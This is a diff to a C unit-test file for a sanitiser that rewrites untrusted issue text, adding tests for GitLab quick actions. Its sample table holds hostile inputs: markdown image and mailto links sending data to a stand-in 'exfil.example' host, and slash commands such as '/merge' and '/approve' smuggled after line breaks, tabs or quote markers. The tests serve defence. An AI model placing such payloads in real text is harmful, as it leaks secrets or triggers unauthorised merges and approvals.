@@ -91,6 +91,15 @@ static const struct {
     {"![x](https://forge.test@exfil.example/a.png)", "image"},
     {"[x](mailto:a@exfil.example?body=secret)", "link"},
     {"ftp://exfil.example/", "link"},
+    /* GitLab quick actions (rule 7): at a line's start, after blanks, in a quote */
+    {"/merge", "quick-action"},
+    {"LGTM\n/approve", "quick-action"},
+    {"ok\r/close", "quick-action"},
+    {"ok\r\n   /assign me", "quick-action"},
+    {"\t/unlabel ~security", "quick-action"},
+    {"> /merge", "quick-action"},
+    {"x\n>> /Approve", "quick-action"},
+    {"x\n/MERGE", "quick-action"},
 };
 
 static void test_attacks(void **state)
@@ -140,6 +149,31 @@ static void test_issue_text(void **state)
                       "> &lt;!--\n\n"
                       "---\nOpened by airlock.");
   assert_null(st_live(out, strlen(out) - strlen("---\nOpened by airlock.")));
+  free(out);
+}
+
+/* Rule 7 exactly, and what it leaves alone (the control of each: the same
+ * text with the `/` at a line's start is rewritten, checked above). */
+static void test_quick_actions(void **state)
+{
+  (void)state;
+  struct al_safetext_counts c;
+  struct al_safetext_opts o = {.forge_hosts = hosts, .header = "", .counts = &c};
+  char *out = NULL;
+  al_error e;
+  const char *in = "LGTM\n/approve\n  /merge\nsee a/b /c\n//x\n/1 /\n";
+  assert_int_equal(al_safetext_render(in, strlen(in), &o, &out, &e), 0);
+  assert_string_equal(out, "> LGTM\n> /" ZW "approve\n>   /" ZW "merge\n> see a/b /c\n"
+                           "> /[/]x\n> /1 /");
+  assert_int_equal(c.quick_actions, 2);
+  assert_null(st_live(out, strlen(out)));
+  free(out);
+  /* the control: the same text, not rewritten, is live for the checker */
+  assert_string_equal(st_live(in, strlen(in)), "quick-action");
+  /* mid-line: no quick action for GitLab, left as it is */
+  const char *keep = "run it with /merge later; a/b/c";
+  out = render(keep, true, 256);
+  assert_string_equal(out, keep);
   free(out);
 }
 
@@ -257,6 +291,7 @@ int main(void)
   const struct CMUnitTest tests[] = {
       cmocka_unit_test(test_attacks),
       cmocka_unit_test(test_issue_text),
+      cmocka_unit_test(test_quick_actions),
       cmocka_unit_test(test_forge_links_stay),
       cmocka_unit_test(test_footer_outside_quote),
       cmocka_unit_test(test_bytes),
